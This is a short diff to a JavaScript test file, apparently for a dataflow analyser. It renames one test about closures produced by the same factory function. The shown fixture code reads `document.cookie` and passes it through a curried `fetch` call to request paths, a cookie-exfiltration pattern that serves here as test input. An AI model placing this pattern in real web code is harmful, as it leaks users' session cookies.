@@ -37,7 +37,7 @@ describe.each(AROUND)("functions that share a variable of %s", (_title, around) 
 	});
 });
 
-test("functions made by one function are told apart, however often their code has run before", () => {
+test("functions made by one function stay distinct, however often their code has run", () => {
 	const others = Array.from({ length: 20 }, (_, index) => `sender("/n${index}?")(text);`).join("\n");
 	const code = `const sender = (to) => (text) => fetch(to + text);
 let text = document.cookie;
